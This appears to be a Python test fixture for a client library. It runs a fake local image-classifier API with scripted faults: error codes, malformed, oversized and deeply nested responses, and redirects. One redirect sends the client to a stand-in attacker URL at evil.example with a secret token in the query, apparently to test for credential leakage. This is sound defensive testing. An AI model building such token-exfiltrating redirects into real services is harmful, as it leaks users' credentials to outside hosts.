"""An API on this machine: a linear classifier of small images, in every form that inputs go, with faults."""

import base64
import io
import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import numpy as np
import torch
from torch import Tensor, nn

SHAPE = (3, 4, 4)
CLASSES = ("cat", "dog", "fox")
WEIGHTS = np.random.default_rng(0).normal(size=(48, 3))
FIELDS = [f"f{number}" for number in range(48)]
SECRET = "tok-5eCr3t/+="

# By form, the [request] of a description and the place of its answers.
FORMS: dict[str, dict[str, Any]] = {
    "png": {"as": "png"},
    "multipart": {"as": "multipart", "at": "file", "with": {"model": "a"}},
    "base64": {"as": "base64", "at": "instances[].image.b64", "prefix": "data:image/png;base64,", "batch": 3},
    "array": {"as": "array", "at": "inputs[]", "layout": "hwc", "batch": 4, "with": {"model": "a"}},
    "record": {"as": "record", "at": "row", "fields": FIELDS},
}


def described(form: str = "array", **answer: Any) -> dict[str, Any]:
    """The description of the server in a form."""
    several = "[]" in FORMS[form].get("at", "")
    return {
        "request": dict(FORMS[form]),
        "answer": {
            "is": "scores",
            "at": "out.rows[].scores" if several else "scores",
            "classes": list(CLASSES),
            **answer,
        },
        "limits": {"backoff": 0.0},
    }


def data(count: int = 6, seed: int = 0) -> tuple[Tensor, Tensor]:
    """Images on the grid of 8 bits, and what the server answers."""
    generator = torch.Generator().manual_seed(seed)
    x = torch.randint(256, (count, *SHAPE), generator=generator, dtype=torch.int64).float() / 255
    return x, torch.from_numpy(scores(x.numpy()).argmax(1))


def scores(images: Any) -> Any:
    """Of images (R, 3, 4, 4) in [0, 1]."""
    return (np.asarray(images, dtype=np.float64).reshape(len(images), -1) - 0.5) @ WEIGHTS


class Net(nn.Module):
    """The same model with gradients, or one near to it."""

    def __init__(self, noise: float = 0.0) -> None:
        super().__init__()
        drawn = np.random.default_rng(1).normal(size=WEIGHTS.shape)
        self.weight = nn.Parameter(torch.from_numpy(WEIGHTS + noise * drawn).float())

    def forward(self, x: Tensor) -> Tensor:
        made: Tensor = (x.flatten(1) - 0.5) @ self.weight
        return made


class Api:
    """The server.

    Attributes:
        plan: by the number of a request, from 1, what goes wrong with it.
        after: a number of requests and what goes wrong with all beyond.
        bodies: what came.
        headers: of what came.
        answer: from scores (R, 3) to what is answered for one input.
    """

    def __init__(self) -> None:
        self.plan: dict[int, str] = {}
        self.after: tuple[int, str] | None = None
        self.bodies: list[bytes] = []
        self.headers: list[dict[str, str]] = []
        self.paths: list[str] = []
        self.images: list[Any] = []
        self.answer: Callable[[Any], Any] = lambda row: {"scores": row.tolist()}
        self.retry_after = ""
        outer = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            disable_nagle_algorithm = True
            wbufsize = -1

            def do_POST(self) -> None:
                outer.serve(self)

            def log_message(self, *_: object) -> None:
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.http.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.http.server_port}/v1/classify"

    @property
    def count(self) -> int:
        """Requests that came."""
        return len(self.bodies)

    def serve(self, handler: BaseHTTPRequestHandler) -> None:
        """Answer one request."""
        body = handler.rfile.read(int(handler.headers["Content-Length"]))
        self.bodies.append(body)
        self.paths.append(handler.path)
        self.headers.append({name.lower(): value for name, value in handler.headers.items()})
        fault = self.plan.get(self.count, "")
        if self.after is not None and self.count > self.after[0]:
            fault = self.after[1]
        if fault == "drop":
            handler.close_connection = True
            return
        images, several = read(body, handler.headers.get("Content-Type", ""))
        self.images.append(images)
        rows = [self.answer(row) for row in scores(images)]
        if fault == "fickle" and rows:
            rows = [self.answer(row + self.count) for row in scores(images)[:, ::-1]]
        whole: Any = {"out": {"rows": rows}} if several else rows[0]
        status, kind, raw = FAULTS.get(fault, _sound)(whole)
        handler.send_response(status)
        if fault in REDIRECTS:
            handler.send_header("Location", REDIRECTS[fault])
        if self.retry_after and status >= 400:
            handler.send_header("Retry-After", self.retry_after)
        handler.send_header("Content-Type", kind)
        handler.send_header("Content-Length", str(len(raw)))
        handler.end_headers()
        handler.wfile.write(raw)


def read(body: bytes, kind: str) -> tuple[Any, bool]:
    """The images (R, 3, 4, 4) in a request, and whether it has room for several."""
    if kind == "image/png":
        return decoded([body]), False
    if kind.startswith("multipart/form-data; boundary="):
        border = kind.partition("boundary=")[2].encode()
        parts = [part.partition(b"\r\n\r\n") for part in body.split(b"--" + border)[1:-1]]
        files = [content[:-2] for head, _, content in parts if b'filename="' in head]
        assert any(b'name="model"' in head for head, _, _ in parts)
        return decoded(files), False
    document = json.loads(body)
    if "instances" in document:
        texts = [one["image"]["b64"] for one in document["instances"]]
        assert all(text.startswith("data:image/png;base64,") for text in texts)
        return decoded([base64.b64decode(text.partition(",")[2]) for text in texts]), True
    if "row" in document:
        assert list(document["row"]) == FIELDS
        return np.array([list(document["row"].values())]).reshape(1, *SHAPE), False
    images = np.array(document["inputs"])
    return (np.moveaxis(images, -1, 1) if images.shape[1:] == (4, 4, 3) else images), True


def decoded(files: list[bytes]) -> Any:
    """PNG files as arrays in [0, 1]."""
    from PIL import Image

    images = [np.asarray(Image.open(io.BytesIO(file))) for file in files]
    return np.stack([np.moveaxis(image.astype(np.float64) / 255, -1, 0) for image in images])


def _sound(whole: Any) -> tuple[int, str, bytes]:
    return 200, "application/json", json.dumps(whole).encode()


def _status(code: int) -> Callable[[Any], tuple[int, str, bytes]]:
    return lambda _: (code, "text/plain", f"no: {SECRET}".encode())


def _text(text: str, kind: str = "application/json") -> Callable[[Any], tuple[int, str, bytes]]:
    return lambda _: (200, kind, text.encode())


def _changed(change: Callable[[Any], Any]) -> Callable[[Any], tuple[int, str, bytes]]:
    def of(whole: Any) -> tuple[int, str, bytes]:
        for one in whole["out"]["rows"] if "out" in whole else [whole]:
            one["scores"] = change(one["scores"])
        return _sound(whole)

    return of


REDIRECTS = {
    "elsewhere": f"https://evil.example/collect?was={SECRET}",
    "elsewhere here": "/other",
}
# What goes wrong for good, and what may pass.
FAULTS: dict[str, Callable[[Any], tuple[int, str, bytes]]] = {
    "400": _status(400),
    "401": _status(401),
    "403": _status(403),
    "404": _status(404),
    "405": _status(405),
    "413": _status(413),
    "501": _status(501),
    "html": _text("<!DOCTYPE html><html><body>Sign in</body></html>", "text/html"),
    "no json": _text("scores: 1, 2, 3"),
    "empty": _text(""),
    "another place": _text(json.dumps({"error": f"unknown token {SECRET}"})),
    "a list": _text("[1, 2]"),
    "deep": _text("[" * 5000 + "]" * 5000),
    "nan": _changed(lambda row: [float("nan"), *row[1:]]),
    "null": _changed(lambda row: [None, *row[1:]]),
    "too few": _changed(lambda row: row[:2]),
    "words": _changed(lambda _: "cat"),
    "enormous": lambda _: (200, "application/json", b" " * (2**22 + 1)),
    "elsewhere": _status(307),
    "elsewhere here": _status(302),
    "408": _status(408),
    "429": _status(429),
    "500": _status(500),
    "503": _status(503),
}
PASSING = ("408", "429", "500", "503", "drop")
LASTING = tuple(name for name in FAULTS if name not in PASSING)


@contextmanager
def served() -> Iterator[Api]:
    """A server for the ``with`` block."""
    api = Api()
    thread = threading.Thread(target=api.http.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
    thread.start()
    try:
        yield api
    finally:
        api.http.shutdown()
        api.http.server_close()
        thread.join()
